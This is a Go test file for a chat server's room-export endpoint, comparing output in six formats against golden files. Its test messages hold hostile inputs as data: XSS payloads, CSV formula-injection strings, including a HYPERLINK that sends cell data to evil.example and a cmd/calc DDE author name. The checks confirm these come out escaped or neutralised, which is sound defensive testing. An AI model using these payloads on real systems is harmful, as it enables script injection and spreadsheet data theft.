package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/parleychat/parley/api"
	"github.com/parleychat/parley/store"
	"github.com/parleychat/parley/store/bolt"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/export")

// goldenRoom builds the room "golden" through the API on a clock that moves
// a minute per request: unicode, multi-line text, HTML and formula payloads,
// an edit, a delete, reactions and replies.
func goldenRoom(t *testing.T) *testServer {
	t.Helper()
	clock := &testClock{t: time.Date(2026, 11, 21, 20, 0, 0, 0, time.UTC)}
	s := mustStartServerWith(t, func(d *bolt.DB) { d.Now = clock.Now }, nil, func(s *api.Server) {
		s.Now = func() time.Time { return time.Date(2026, 11, 21, 23, 0, 0, 0, time.UTC) }
	})
	post := func(author, text, replyTo string) string {
		clock.Add(time.Minute)
		return s.post(t, "golden", map[string]string{"author": author, "text": text, "reply_to": replyTo}, http.StatusCreated).ID.String()
	}
	change := func(method, path, body string) {
		clock.Add(time.Minute)
		if resp := s.do(t, method, "/api/rooms/golden/messages/"+path, "application/json", []byte(body)); resp.status != http.StatusCreated {
			t.Fatalf("%s %s: got %d %s", method, path, resp.status, resp.body)
		}
	}
	hello := post("alice", "Hello, wörld! 👋 日本語, Ελληνικά, עברית", "")
	multi := post("bob", "first line\nsecond line\n\n  indented after a blank line\r\nCRLF line\rCR line", hello)
	post("mallory", `<script>alert("x")</script> & <b>bold</b> <img src=x onerror=alert(1)> &amp; </div>`, "")
	post("mallory", "# not a heading\n- not a list\n1. not ordered\n> not a quote\n=== not a setext\n| a | b |\n**not bold** `code` [link](http://x) ~~strike~~ \\", multi)
	for _, text := range []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1", "-2", "@SUM(A1:A2)", "\tTab-leading", "\rCR-leading", "a, \"quoted\", cell"} {
		post("eve", text, "")
	}
	post("=cmd|' /C calc'!A0", "author injection", "")
	post("frank", "**bold** *it* _it_ __b__ ~~gone~~ `<i>code</i>` snake_case https://example.com/a_b?x=1&y=\"2\" [x](javascript:alert(1))\n"+
		"```\n<script>alert(1)</script> **not bold**\n```\n> quoted **<b>x</b>**\n> > nested\n- item `x`\n- *two*\n3. three", "")
	typo := post("alice", "tpyo", hello)
	change("PATCH", typo, `{"author":"alice","text":"typo, fixed\nwith a second line"}`)
	gone := post("carol", "regrettable <b>", "")
	post("dave", "reply to a deleted message", gone)
	change("DELETE", gone, `{"author":"carol"}`)
	change("POST", hello+"/reactions", `{"author":"bob","emoji":"👍"}`)
	change("POST", hello+"/reactions", `{"author":"carol","emoji":"👍"}`)
	change("POST", hello+"/reactions", `{"author":"dave","emoji":"*️⃣"}`)
	change("POST", multi+"/reactions", `{"author":"alice","emoji":"❤️"}`)
	change("POST", multi+"/reactions", `{"author":"dave","emoji":"🎉"}`)
	change("DELETE", multi+"/reactions/"+url.PathEscape("🎉"), `{"author":"dave"}`)
	return s
}

// ulidRE matches an event id.
var ulidRE = regexp.MustCompile(`\b[0-7][0-9A-HJKMNP-TV-Z]{25}\b`)

// normaliseIDs replaces each distinct id with ID1, ID2, … in order of first
// appearance: ids carry random bits, golden files must not.
func normaliseIDs(b []byte) []byte {
	seen := map[string]string{}
	return ulidRE.ReplaceAllFunc(b, func(id []byte) []byte {
		if _, ok := seen[string(id)]; !ok {
			seen[string(id)] = fmt.Sprintf("ID%d", len(seen)+1)
		}
		return []byte(seen[string(id)])
	})
}

func TestExportGolden(t *testing.T) {
	s := goldenRoom(t)
	for _, c := range []struct{ format, contentType string }{
		{"jsonl", "application/jsonl"},
		{"json", "application/json"},
		{"md", "text/markdown; charset=utf-8"},
		{"txt", "text/plain; charset=utf-8"},
		{"html", "text/html; charset=utf-8"},
		{"csv", "text/csv; charset=utf-8"},
	} {
		t.Run(c.format, func(t *testing.T) {
			resp := s.do(t, "GET", "/api/rooms/golden/export?format="+c.format, "", nil)
			if resp.status != http.StatusOK {
				t.Fatalf("got %d %s", resp.status, resp.body)
			}
			if got := resp.header.Get("Content-Type"); got != c.contentType {
				t.Errorf("Content-Type: got %q, want %q", got, c.contentType)
			}
			if got, want := resp.header.Get("Content-Disposition"), `attachment; filename="golden-20261121.`+c.format+`"`; got != want {
				t.Errorf("Content-Disposition: got %q, want %q", got, want)
			}
			got := normaliseIDs(resp.body)
			path := filepath.Join("testdata", "export", "golden."+c.format)
			if *update {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test ./api -run Golden -update)", err)
			}
			if !bytes.Equal(got, want) {
				gl, wl := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
				for i := 0; i < max(len(gl), len(wl)); i++ {
					if i >= len(gl) || i >= len(wl) || gl[i] != wl[i] {
						t.Fatalf("%s differs at line %d (-update rewrites it):\ngot  %q\nwant %q", path, i+1, at(gl, i), at(wl, i))
					}
				}
			}
			checkFormat(t, c.format, resp)
		})
	}
}

func at(lines []string, i int) string {
	if i < len(lines) {
		return lines[i]
	}
	return "(end of file)"
}

// checkFormat checks what a golden file could get wrong and still be
// rewritten by -update.
func checkFormat(t *testing.T, format string, resp response) {
	body := string(resp.body)
	const messages = 16
	switch format {
	case "json":
		var ms []store.Message
		if err := json.Unmarshal(resp.body, &ms); err != nil || len(ms) != messages {
			t.Errorf("got %d messages, %v; want %d", len(ms), err, messages)
		}
	case "html":
		if strings.Contains(strings.ToLower(body), "<script") || strings.Contains(body, "<b>") || strings.Contains(body, "<img") {
			t.Errorf("message text is not escaped:\n%s", body)
		}
		if got, want := resp.header.Get("Content-Security-Policy"), "default-src 'none'; style-src 'unsafe-inline'"; got != want {
			t.Errorf("Content-Security-Policy: got %q, want %q", got, want)
		}
		if !strings.Contains(body, "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;") {
			t.Errorf("the script payload is missing, escaped")
		}
	case "csv":
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || len(rows) != messages+1 {
			t.Fatalf("got %d rows, %v; want %d", len(rows), err, messages+1)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("cell %q can start a formula", cell)
				}
			}
		}
	case "txt", "md":
		// Every line of message text is marked, so it cannot pass for a
		// message header.
		prefix := map[string]string{"txt": "    ", "md": ">"}[format]
		for _, line := range strings.Split(body, "\n") {
			if strings.Contains(line, "line") && !strings.HasPrefix(line, prefix) && !strings.Contains(line, "bob") {
				t.Errorf("text line %q does not start with %q", line, prefix)
			}
		}
	}
}
